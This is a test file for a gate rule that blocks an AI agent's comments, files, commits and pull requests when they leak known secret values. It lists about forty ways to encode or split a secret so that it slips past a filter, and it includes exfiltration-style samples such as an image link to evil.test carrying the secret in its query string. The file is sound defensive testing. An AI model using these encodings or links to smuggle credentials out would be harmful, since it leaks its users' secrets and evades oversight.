import { createHash } from "node:crypto";
import { deflateSync, gzipSync } from "node:zlib";
import { describe, expect, it } from "vitest";
import type { Judged } from "../../../../src/gate/judged.ts";
import { heldSecretsRule } from "../../../../src/gate/rules/held-secrets.ts";
import { matchHeld } from "../../../../src/gate/secrets/held-values.ts";
import { ask, comment, commit, filler, openPull, severities, write } from "../fixtures.ts";

const held = `canary-${filler(40)}`;
const each = (text: string, map: (character: string) => string, glue = ""): string => Array.from(text, map).join(glue);
const code = (character: string): number => character.charCodeAt(0);
const base64Of = (bytes: Buffer): string => bytes.toString("base64");
const base64 = (text: string): string => Buffer.from(text).toString("base64");
const bitsOf = (character: string): string => code(character).toString(2).padStart(8, "0");
const base32 = (text: string): string =>
  Array.from(
    each(text, bitsOf).match(/.{1,5}/g) ?? [],
    (five) => "ABCDEFGHIJKLMNOPQRSTUVWXYZ234567"[Number.parseInt(five.padEnd(5, "0"), 2)],
  ).join("");
const rot13 = (text: string): string => text.replace(/[a-z]/gi, (c) => String.fromCharCode(code(c) + (c.toLowerCase() < "n" ? 13 : -13)));
/** Pads, so that the value starts at each of base64's three offsets. */
const PADS = ["", "a", "ab"];

const FORMS: readonly [string, string][] = [
  ["as it is", held],
  ["twelve characters of it", held.slice(20, 32)],
  ["without its first seven characters", held.slice(7)],
  ["in capitals", held.toUpperCase()],
  [
    "reversed",
    each(held, (c) => c)
      .split("")
      .reverse()
      .join(""),
  ],
  ...PADS.map((pad): [string, string] => [`base64 at offset ${pad.length}`, base64(`${pad}${held} and more`)]),
  ["a part of it in base64", base64(`key=${held.slice(10, 30)}`)],
  ["base64 in short lines", base64(held).replace(/(.{8})/g, "$1\n")],
  ["base64 for URLs", Buffer.from(`??${held}??`).toString("base64url")],
  ...[0, 1, 2, 3, 4].map((offset): [string, string] => [`base32 at offset ${offset}`, base32(`${"x".repeat(offset)}${held} and`)]),
  ["letters rotated by thirteen", rot13(held)],
  ["binary digits", each(held, bitsOf, " ")],
  ["binary digits in one row", each(held, bitsOf)],
  ["the first letters of lines", each(held, (c) => `${c}ome words of no matter`, "\n")],
  ["the first letters of a list", each(held, (c) => `- ${c}ome words of no matter`, "\n")],
  ["hex", Buffer.from(held).toString("hex")],
  ["hex in capitals with colons", Buffer.from(held).toString("hex").toUpperCase().replace(/(..)/g, "$1:")],
  ["percent escapes", each(held, (c) => `%${code(c).toString(16)}`)],
  ["percent escapes twice", each(held, (c) => `%25${code(c).toString(16)}`)],
  ["HTML entities", each(held, (c) => `&#${code(c)};`)],
  ["hexadecimal entities", each(held, (c) => `&#x${code(c).toString(16)};`)],
  ["JavaScript escapes", each(held, (c) => `\\u00${code(c).toString(16)}`)],
  ["short escapes", each(held, (c) => `\\x${code(c).toString(16)}`)],
  ["blanks between characters", each(held, (c) => c, " ")],
  ["line breaks between characters", each(held, (c) => c, "\n")],
  ["emphasis between characters", each(held, (c) => c, "**")],
  ["zero-width characters between", each(held, (c) => c, "\u200b")],
  ["full-width letters", each(held, (c) => String.fromCharCode(code(c) + 0xfee0))],
  ["tag characters", each(held, (c) => String.fromCodePoint(0xe0000 + code(c)))],
  ["a word behind each character", each(held, (c) => `${c} word`, "\n")],
  ["an image for each character", each(held, (c) => `![](https://camo.test/${c}.png)`)],
  ["packed with gzip, in base64", base64Of(gzipSync(held))],
  ["packed with gzip, in base64 twice", base64(base64Of(gzipSync(held)))],
  ["packed with zlib, in hex", deflateSync(held).toString("hex")],
  ["UTF-16 in base64", base64Of(Buffer.from(held, "utf16le"))],
  ["a list of character codes", `[${each(held, (c) => String(code(c)), ", ")}]`],
  ["a list of hexadecimal codes", each(held, (c) => `0x${code(c).toString(16)}`, ",")],
  ["octal escapes", each(held, (c) => `\\${code(c).toString(8).padStart(3, "0")}`)],
  [
    "pieces of nine characters in code",
    Array.from(held.match(/.{9}/g) ?? [], (piece, index) => `const p${index} = "${piece}";`).join("\n"),
  ],
  ["parts joined in code", `a = "${held.slice(0, 14)}" + "${held.slice(14, 28)}" +\n  "${held.slice(28)}"`],
];

describe("held-secrets", () => {
  const rule = heldSecretsRule({ heldSecrets: () => [held] });

  it.each(FORMS)("blocks a held secret written %s, in a comment and in a file", async (_, text) => {
    expect(severities(await ask(rule, comment(`Here: ${text}.`)))).toEqual(["block"]);
    expect(severities(await ask(rule, write("a.ts", `x\n${text}\n`)))).toEqual(["block"]);
  });

  it.each<[string, Judged]>([
    ["a title", openPull(undefined, { title: held })],
    ["a pull request's body", openPull(undefined, { body: held })],
    ["a commit message's trailer", commit(undefined, { message: `Fix\n\nCo-authored-by: x <${held}@evil.test>` })],
    ["a branch", commit(undefined, { branch: `bot/${held}` })],
    ["a base", openPull(undefined, { base: held })],
    ["a file in UTF-16", write("a.txt", Buffer.from(held, "utf16le"))],
    ["a binary file", write("a.bin", Buffer.concat([Buffer.from([255, 0, 200]), Buffer.from(held)]))],
    ["a file that held it before", write("a.ts", `${held} new`, held)],
    [
      "what the model wrote before it was cleaned",
      comment("Nothing.", { written: ["a", each(held, (c) => String.fromCodePoint(0xe0000 + code(c)))] }),
    ],
    ["what a pull request was made from", openPull(undefined, { written: [`<!-- ${held} -->`] })],
    ["an image's address", comment(`![x](https://evil.test/p.png?d=${held})`)],
  ])("blocks a held secret in %s", async (_, judged) => {
    expect(severities(await ask(rule, judged))).toContain("block");
  });

  it("blocks a file name that holds one without repeating it", async () => {
    const findings = await ask(rule, write(`${held}.txt`));
    expect(severities(findings)).toEqual(["block"]);
    expect(JSON.stringify(findings)).not.toContain(held);
  });

  it("asks for the values anew each time, since tokens change", async () => {
    let values: readonly string[] = [];
    const changing = heldSecretsRule({ heldSecrets: () => values });
    expect(await ask(changing, comment(held))).toEqual([]);
    values = [held];
    expect(severities(await ask(changing, comment(held)))).toEqual(["block"]);
  });
});

describe("pieces of a held secret over the writes of one run", () => {
  const values = [filler(40), `dop_v1_${filler(64, "3f0a9c27e4b1d685")}`];
  const [secret = ""] = values;
  const piecesOf = (text: string, length: number): readonly string[] => text.match(new RegExp(`.{1,${length}}`, "g")) ?? [];

  it.each([
    ["comments", (piece: string): Judged => comment(`next: ${piece} .`)],
    ["files", (piece: string): Judged => write(`${piece.length}.ts`, `export const a = "${piece}";`)],
    ["titles", (piece: string): Judged => openPull(undefined, { title: `Fix ${piece}` })],
  ])("blocks before half of it is out in %s", async (_, judged) => {
    const rule = heldSecretsRule({ heldSecrets: () => values });
    const answers: string[] = [];
    for (const piece of piecesOf(secret, 8)) answers.push(...severities(await ask(rule, judged(piece))), ".");
    expect(answers.join(" ")).toMatch(/^\.( block)? \.? ?(block|\.)/);
    expect(answers.filter((answer) => answer === "block").length).toBeGreaterThanOrEqual(3);
  });

  it("blocks a value in hex, whose pieces must be longer to tell anything", async () => {
    const rule = heldSecretsRule({ heldSecrets: () => values });
    const answers = [];
    for (const piece of piecesOf(values[1] ?? "", 11)) answers.push(await ask(rule, comment(`${piece} -`)));
    expect(answers.filter((findings) => findings.length > 0).length).toBeGreaterThan(2);
  });

  it("does not count one piece twice, nor another run's, nor hold what shows nothing", async () => {
    const rule = heldSecretsRule({ heldSecrets: () => values });
    const piece = comment(`a ${secret.slice(0, 9)} b`);
    for (let time = 0; time < 5; time++) expect(await ask(rule, piece)).toEqual([]);
    const other = await rule.check(comment(`a ${secret.slice(9, 18)} b`), {
      id: "run-2",
      repository: { owner: "acme", name: "app" },
      trigger: "mention",
    });
    expect(other).toEqual([]);
    expect(severities(await ask(rule, comment(`a ${secret.slice(9, 18)} b`)))).toEqual(["block"]);
    expect(await ask(rule, comment("Nothing of it here."))).toEqual([]);
  });

  it("does not take words, identifiers and hashes for pieces", async () => {
    const words = heldSecretsRule({ heldSecrets: () => ["correct-horse-battery-staple-postgres", "GitHubActionsRunnerToken", ...values] });
    const text = "On postgres it is correct: the staple, the battery and the horse; Token, Runner, Actions and GitHub.\n";
    const hashes = Array.from({ length: 2000 }, (_, index) =>
      createHash("sha256")
        .update(String(index))
        .digest(index % 2 === 0 ? "hex" : "base64"),
    );
    expect(await ask(words, write("a.md", text + hashes.join("\n")))).toEqual([]);
  });
});

describe("matchHeld", () => {
  const pem = `-----BEGIN RSA PRIVATE KEY-----\nMIIEowIBAAKCAQEA${filler(800).replace(/(.{64})/g, "$1\n")}\n-----END RSA PRIVATE KEY-----\n`;
  const webToken = `ghs_1234567_${['{"alg":"RS256","typ":"JWT"}', JSON.stringify({ iss: "https://github.com", data: filler(120) })].map((part) => Buffer.from(part).toString("base64url")).join(".")}.${filler(200)}`;
  const url = `postgres://app:${filler(24)}@db.acme.io/production`;

  it.each<[string, string, string]>([
    ["eleven characters of a secret", held, held.slice(20, 31)],
    ["a key's armour", pem, "-----BEGIN RSA PRIVATE KEY-----"],
    ["how every RSA key starts", pem, "MIIEowIBAAKCAQEA..."],
    ["how every web token starts", webToken, "eyJhbGciOiJSUzI1NiIsInR5cCI6IkpXVCJ9"],
    ["the host and the scheme of a database", url, "postgres at db.acme.io/production, as app"],
    ["a word that a short secret is part of", "development", "the development secret"],
    ["padding", "aaaaaaaaaaaaaaaaaaaaaaaa", "a".repeat(100)],
    ["nothing", held, ""],
  ])("does not find %s", (_, value, text) => {
    expect(matchHeld([value])(text)).toBe(false);
  });

  it.each<[string, string, string]>([
    ["a line from within a key", pem, pem.split("\n")[4] ?? ""],
    ["a key in one line", pem, JSON.stringify(pem)],
    ["a web token's signature", webToken, webToken.slice(-40)],
    ["a database's password", url, filler(24)],
  ])("finds %s", (_, value, text) => {
    expect(matchHeld([value])(`before ${text} after`)).toBe(true);
  });

  it("finds nothing in a long text that holds nothing, and the one secret in a long text that does", () => {
    const holds = matchHeld([held, pem, webToken]);
    const prose = "The quick brown fox reads %41 and &#65; and \\x41, then writes code: const a = (b) => b + 1;\n".repeat(5000);
    expect(holds(prose)).toBe(false);
    expect(holds(`${prose}${held}${prose}`)).toBe(true);
  });
});

it("does not take a part of a secret that only counts for the secret", () => {
  const counting = matchHeld([`sk-test-0123456789abcdefghij-${filler(20)}`]);
  expect(counting("0123456789abcdef\n".repeat(3))).toBe(false);
  expect(counting("alphabet: abcdefghijklmnopqrstuvwxyz, backwards 9876543210fedcba")).toBe(false);
  expect(counting(`x ${filler(20)} y`)).toBe(true);
});
